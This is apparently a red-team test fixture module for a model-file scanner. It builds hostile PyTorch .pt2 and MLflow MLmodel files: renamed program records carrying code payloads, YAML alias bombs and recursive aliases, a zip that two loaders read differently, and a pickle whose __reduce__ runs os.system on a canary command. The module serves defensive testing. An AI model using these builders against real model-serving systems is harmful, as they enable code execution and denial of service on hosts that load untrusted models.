"""Files built the way an attacker would against the scanner and loader: siblings of the known
bypass classes where the scanner's reading of a file differs from what torch / MLflow read.

Every builder writes a real file under the given path from a real benign export; hostile payloads
create a canary file when the stock loader (``torch.export.load`` → ``.module()`` → forward, as a
serving host does) runs them. tests/unit/test_redteam_scan.py proves each mechanism on plain torch,
then shows the scanner and the worker refuse it; tests/integration/test_redteam_inspect.py runs
them through ``ckpt-stage inspect`` with the real worker.
"""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.corpus import pt2_code as P


def _records(src: Path) -> tuple[str, dict[str, bytes]]:
    with zipfile.ZipFile(src) as zin:
        names = zin.namelist()
        root = names[0].split("/", 1)[0]
        return root, {n: zin.read(n) for n in names}


def _write(dest: Path, records: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_STORED) as zout:
        for name, data in records.items():
            zout.writestr(name, data)
    return dest


# -- pt2: a program record torch reads that is not named models/<name>.json ----------------------
#
# torch 2.13 ``_load_exported_programs`` deserializes every record whose name starts with
# ``models/`` and derives the program's name as ``record[len("models/"):-len(".json")]``. A record
# ``models/model.JSON`` (or ``model.txt1``, ``model_json``: any five characters after ``model``) is
# program ``model``; listed after the benign ``models/model.json`` it replaces it, and its
# ``expr_str`` strings are sympified while it is deserialized either way.


@dataclass(frozen=True)
class HiddenProgram:
    name: str
    record: str
    """Name under ``models/`` of the hostile program."""
    payload: Callable[[Path], Callable[[dict], None]]
    keep_benign: bool

    def build(self, src: Path, dest: Path, canary: Path) -> Path:
        root, rec = _records(src)
        doc: dict[str, Any] = json.loads(rec[f"{root}/models/model.json"])
        self.payload(canary)(doc)
        if not self.keep_benign:
            del rec[f"{root}/models/model.json"]
        rec[f"{root}/models/{self.record}"] = json.dumps(doc).encode()
        return _write(dest, rec)


HIDDEN_PROGRAMS = [
    HiddenProgram(f"{record}-{pname}-{'beside' if keep else 'alone'}", record, payload, keep)
    for record in ("model.JSON", "model.txt1", "model_json")
    for pname, payload in (("guards", P.guards_code), ("size-expr", P.size_expr))
    for keep in (True, False)
]


# -- MLflow: an MLmodel whose YAML aliases expand without bound ----------------------------------
#
# PyYAML's safe_load (MLflow's Model.load uses it too) builds ``*alias`` references by sharing, so a
# KB of "ten aliases of ten aliases" loads instantly as 10^10 values; the first ``repr`` / ``str`` /
# JSON dump of the field (a refusal message quoting it, a report detail) expands them all in the
# parent. Deep nesting makes PyYAML's recursive composer raise RecursionError, and ``&a [*a]`` is a
# value that contains itself.

#: MLmodel fields the scanner quotes in a message when they are not what it expects.
YAML_BOMB_FIELDS = ("code", "pickle_module_name", "python_model", "data", "loader_module")


def yaml_bomb_mlmodel(dest_dir: Path, field: str, levels: int = 10) -> Path:
    lines = ["x0: &x0 [" + ", ".join(["aaaaaaaa"] * 10) + "]"]
    lines += [f"x{i}: &x{i} [" + ", ".join([f"*x{i - 1}"] * 10) + "]" for i in range(1, levels)]
    pyfunc = {"loader_module": "mlflow.pytorch", "data": "data", field: f"*x{levels - 1}"}
    lines += ["flavors:", "  python_function:", *(f"    {k}: {v}" for k, v in pyfunc.items()),
              "  pytorch:", "    model_data: data", "    pytorch_version: 2.13.0"]
    dest_dir.mkdir(parents=True, exist_ok=True)
    (dest_dir / "MLmodel").write_text("\n".join(lines) + "\n")
    return dest_dir / "MLmodel"


def deep_mlmodel(dest_dir: Path, depth: int = 30_000) -> Path:
    dest_dir.mkdir(parents=True, exist_ok=True)
    (dest_dir / "MLmodel").write_text("flavors: " + "[" * depth + "]" * depth + "\n")
    return dest_dir / "MLmodel"


def recursive_mlmodel(dest_dir: Path) -> Path:
    dest_dir.mkdir(parents=True, exist_ok=True)
    (dest_dir / "MLmodel").write_text(
        "flavors:\n  python_function:\n    loader_module: mlflow.pytorch\n    code: &r [*r]\n")
    return dest_dir / "MLmodel"


# -- a zip with two meanings: a .pt2 that torch.load reads as another checkpoint ------------------
#
# torch.load on a zip reads ``<folder>/data.pkl`` (a TorchScript archive's ``constants.pkl`` sends it
# to torch.jit.load) and never looks at ``archive_format``; torch.export.load reads the pt2 records.
# Adding a torch.save state dict's data.pkl and storages to a real .pt2 gives one file that is a
# valid program to one loader and NaN weights to the other.


def pt2_with_data_pkl(src: Path, dest: Path, *, record: str = "data.pkl") -> Path:
    import io

    import torch

    buf = io.BytesIO()
    torch.save({"l1.weight": torch.full((8, 4), float("nan"))}, buf)
    with zipfile.ZipFile(buf) as z:
        tz = {n.split("/", 1)[1]: z.read(n) for n in z.namelist()}
    root, rec = _records(src)
    rec[f"{root}/{record}"] = tz["data.pkl"]
    for rel, data in tz.items():
        if rel.startswith("data/"):
            rec[f"{root}/{rel}"] = data
    return _write(dest, rec)


# -- pt2: one record listed both as a raw tensor and as a pickled payload ----------------------------
#
# torch.export.load reads a ``use_pickle`` payload with ``torch.load(weights_only=False)``
# (torch/export/pt2_archive/_package.py ``_load_state_dict``) and a raw one as bytes. The scanner
# skipped the pickle scan of records it had seen declared raw, so a second FQN naming the same
# record with ``use_pickle: true`` had its torch.save archive unpickled by torch, unscanned.


class _Run:
    def __init__(self, cmd: str):
        self.cmd = cmd

    def __reduce__(self):
        import os

        return (os.system, (self.cmd,))


def pt2_raw_and_pickled(src: Path, dest: Path, canary: Path) -> Path:
    import io

    import torch

    buf = io.BytesIO()
    torch.save(_Run(f"touch {canary}"), buf)
    hostile = buf.getvalue()
    root, rec = _records(src)
    cfg_name = f"{root}/data/weights/model_weights_config.json"
    cfg = json.loads(rec[cfg_name])
    rec[f"{root}/data/weights/weight_99"] = hostile
    meta = {"dtype": 1, "sizes": [{"as_int": len(hostile)}], "requires_grad": False,
            "device": {"type": "cpu", "index": None}, "strides": [{"as_int": 1}],
            "storage_offset": {"as_int": 0}, "layout": 7}
    cfg["config"]["extra_raw"] = {"path_name": "weight_99", "is_param": False, "use_pickle": False,
                                  "tensor_meta": meta}
    cfg["config"]["extra_pickled"] = {"path_name": "weight_99", "is_param": False, "use_pickle": True,
                                      "tensor_meta": meta}
    rec[cfg_name] = json.dumps(cfg).encode()
    return _write(dest, rec)
